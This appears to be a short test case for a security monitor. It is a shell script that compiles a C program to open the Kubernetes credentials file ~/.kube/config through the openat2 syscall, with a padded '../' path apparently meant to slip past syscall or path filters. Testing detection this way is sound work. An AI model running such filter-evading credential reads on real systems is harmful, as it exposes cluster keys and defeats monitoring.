# incident: the key of a cluster, by a call that filters forget
# finding: credential-read
# needs: gcc
cat > k.c <<'C'
#include <fcntl.h>
#include <linux/openat2.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void) {
    char path[4096]; struct open_how how; memset(&how, 0, sizeof how); how.flags = O_RDONLY;
    snprintf(path, sizeof path, "%s/.kube/../.kube/config", getenv("HOME"));
    return syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how) < 0;
}
C
gcc -o k k.c && ./k
